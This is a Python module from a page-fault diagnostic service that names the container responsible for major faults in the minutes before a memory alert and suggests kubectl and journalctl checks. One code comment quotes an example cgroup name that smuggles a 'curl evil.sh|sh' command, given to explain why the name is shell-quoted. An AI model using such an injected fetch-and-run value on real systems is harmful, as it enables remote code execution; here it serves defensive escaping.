"""The recorder's lead-up in a report, and the verdict when the window missed the culprit. Pure.

An alert fires only after 15 minutes above its threshold: by the time the window opens, a cron job
or a container that was OOM-killed may be quiet. When the window saw no major faults, or its top
process explains less than half of the lead-up's, the verdict names the lead-up's top container
and when it stopped, with what to check (restarts, OOM kills, its schedule).
"""

from __future__ import annotations

import shlex
from datetime import datetime, timedelta

from app.models import Cause, History, HistoryCgroup, ProcessReport, Report, Trigger, Verdict

from .who import group_who

__all__ = [
    "LEAD_UP_BEFORE_ALERT",
    "LEAD_UP_DEFAULT",
    "NO_HISTORY_CLI",
    "apply_lead_up",
    "burst",
    "culprit_labels",
    "describe_lead_up",
    "lead_up_since",
    "matches",
]

NO_HISTORY_CLI = "no history: the recorder runs only in the service (pagefault-inspector serve)"

LEAD_UP_BEFORE_ALERT = timedelta(minutes=15)  # the node-mixin alert's `for:`
LEAD_UP_DEFAULT = timedelta(minutes=30)
EXPLAINS = 0.5  # the window's top process must explain this share of the lead-up's faults
MIN_FAULTS = 100  # a lead-up top with fewer major faults does not rewrite the verdict
ACTIVE_OF_PEAK = 0.1  # an interval counts as part of the burst at this share of the peak interval


def _parse_time(text: str | None) -> datetime | None:
    if not text:
        return None
    try:
        dt = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except ValueError:
        return None
    return dt if dt.tzinfo is not None and dt.year > 1 else None


def lead_up_since(trigger: Trigger, until: datetime) -> datetime:
    """Where the lead-up starts: the alert's startsAt minus 15 minutes; for watch mode, when the rate
    rose above the threshold (at least the last 30 minutes); otherwise the last 30 minutes."""
    default = until - LEAD_UP_DEFAULT
    if trigger.kind == "alert":
        starts = _parse_time(trigger.starts_at)
        if starts is not None and starts <= until:
            return starts - LEAD_UP_BEFORE_ALERT
    if trigger.kind == "watch" and trigger.since is not None and trigger.since <= until:
        return min(trigger.since, default)
    return default


def burst(history: History, c: HistoryCgroup) -> tuple[datetime, datetime, float]:
    """(start, end, major faults/s) of the group's burst: the intervals from the first to the last
    one with at least ACTIVE_OF_PEAK of its busiest interval."""
    step = timedelta(seconds=history.interval_seconds)
    peak = max(c.series) if c.series else 0
    floor = max(1, int(peak * ACTIVE_OF_PEAK))
    hot = [i for i, v in enumerate(c.series) if v >= floor]
    if not hot:
        return history.since, history.until, 0.0
    first, last = hot[0], hot[-1]
    start = history.since + step * first
    end = history.since + step * (last + 1)
    faults = sum(c.series[first : last + 1])
    seconds = max((end - start).total_seconds(), history.interval_seconds)
    return start, end, faults / seconds


def _norm(path: str | None) -> str:
    return "/" + "/".join(p for p in (path or "").split("/") if p and p != "..")


def matches(p: ProcessReport, c: HistoryCgroup) -> bool:
    """Whether a process of the window is in a recorded container (by pod, else by cgroup path)."""
    if p.pod is not None and c.pod is not None:
        if p.pod.uid == c.pod.uid and (p.pod.container == c.pod.container or not p.pod.container or not c.pod.container):
            return True
        if p.pod.name and (p.pod.namespace, p.pod.name, p.pod.container) == (c.pod.namespace, c.pod.name, c.pod.container):
            return True  # the same container of a pod recreated under its name (a StatefulSet's)
    if p.cgroup is None:
        return False
    pp, cp = _norm(p.cgroup), _norm(c.cgroup)
    if pp == "/":
        return False
    # Seen from a cgroup namespace, a process's path lacks the host's prefix: compare from the end.
    return pp == cp or pp.startswith(cp + "/") or cp.endswith(pp)


def _clock(dt: datetime, fine: bool) -> str:
    return dt.strftime("%H:%M:%S" if fine else "%H:%M")


def _advice(c: HistoryCgroup, start: datetime, end: datetime) -> list[str]:
    if c.pod is not None and c.pod.name:
        ns, name = c.pod.namespace, c.pod.name
        return [
            f"check whether it restarted or was OOM-killed: `kubectl -n {ns} get pod {name}` (RESTARTS) and "
            f"`kubectl -n {ns} describe pod {name}` (Last State: OOMKilled); if the pod is gone, look for its "
            "events and its owner (a Job or CronJob)",
            "check its schedule: a CronJob or batch job that runs at these times will fault again at the next run; "
            "give it a memory limit that holds its working set, or run it where (or when) there is room",
            "the lead-up chart shows when it faulted; lower the alert's `for:` or use watch mode "
            "(PFI_WATCH_THRESHOLD) to catch it while it runs",
        ]
    # Quoted for the shell: the name is whoever made the group's (a delegated subtree can hold
    # "x'; curl evil.sh|sh; '"), and this line is made to be pasted.
    unit = shlex.quote(c.cgroup.rsplit("/", 1)[-1])
    since = start.strftime("%Y-%m-%d %H:%M:%S")
    until = end.strftime("%Y-%m-%d %H:%M:%S")
    return [
        f"check what ran in {c.cgroup} then: `journalctl -u {unit} --since '{since}' --until '{until}'` (UTC)",
        "look for OOM kills around that time (`dmesg -T | grep -i oom`) and for a timer or cron entry that "
        "starts it (`systemctl list-timers`, /etc/cron.*)",
        "the lead-up chart shows when it faulted; use watch mode (PFI_WATCH_THRESHOLD) to catch it while it runs",
    ]


def apply_lead_up(report: Report, history: History | None) -> Report:
    """The report with its history set and, when the window did not explain the lead-up, a verdict
    that names the lead-up's top container (app.investigation.report.build_report calls it)."""
    report = report.model_copy(update={"history": history, "history_reason": None if history else report.history_reason})
    if history is None or not history.cgroups or report.status != "complete":
        return report
    top = history.cgroups[0]
    if top.major_faults < MIN_FAULTS:
        return report
    total = max(history.node_major_faults, sum(c.major_faults for c in history.cgroups), 1)
    faulting = [p for p in report.processes if p.major_faults > 0]
    window_top = faulting[0] if faulting else None
    # The window explains the lead-up when its faulting processes (any of them, not only its top: another
    # workload can outrank the culprit in the window) are in the lead-up's groups that made most of its
    # faults, or when the lead-up's top group is still faulting in the window (it did not stop before it).
    explained = sum(c.major_faults for c in history.cgroups if any(matches(p, c) for p in faulting))
    if explained >= EXPLAINS * total or any(matches(p, top) for p in faulting):
        return report
    start, end, rate = burst(history, top)
    fine = (end - start) < timedelta(minutes=2)
    when = f"from {_clock(start, fine)} to {_clock(end, fine)} UTC"
    stopped = top.last_active_at is None or top.last_active_at <= report.started_at
    share = top.major_faults / total
    summary = f"{group_who(top)} made {rate:,.0f} major faults/s {when}"
    summary += ", then stopped" if stopped else ", and was still faulting when the window opened"
    summary += f" ({min(share, 1):.0%} of the node's major faults in the lead-up)"
    if window_top is None:
        summary += f"; the {report.window_seconds:.0f} s window saw no major faults"
    else:
        summary += f"; in the {report.window_seconds:.0f} s window: {report.verdict.summary}"
    verdict = Verdict(
        summary=summary,
        cause=Cause.STOPPED_BEFORE_WINDOW,
        advice=_advice(top, start, end),
        confidence="high" if share >= EXPLAINS else "medium",
    )
    return report.model_copy(update={"verdict": verdict})


def culprit_labels(report: Report) -> dict[str, str]:
    """namespace/pod/container of the lead-up's top container when the verdict names it (for the
    Alertmanager alert's labels), else nothing."""
    h = report.history
    if report.verdict.cause != Cause.STOPPED_BEFORE_WINDOW or h is None or not h.cgroups:
        return {}
    pod = h.cgroups[0].pod
    if pod is None or not pod.name:
        return {}
    out = {"namespace": pod.namespace or "", "pod": pod.name, "container": pod.container or ""}
    return {k: v for k, v in out.items() if v}


def describe_lead_up(report: Report, n: int = 3) -> str:
    """The lead-up's top containers in a few lines, for chat and annotations ('' without history)."""
    h = report.history
    if h is None:
        return ""
    lines = [f"lead-up {h.since:%H:%M}-{h.until:%H:%M} UTC: node {h.node_major_faults:,} major faults"]
    for i, c in enumerate(h.cgroups[:n], 1):
        last = f", last active {c.last_active_at:%H:%M:%S}" if c.last_active_at else ""
        gone = " (gone)" if c.gone else ""
        lines.append(f"{i}. {group_who(c)}{gone}: {c.major_faults:,} major faults, peak {c.peak_per_second:,.0f}/s{last}")
    return "\n".join(lines)
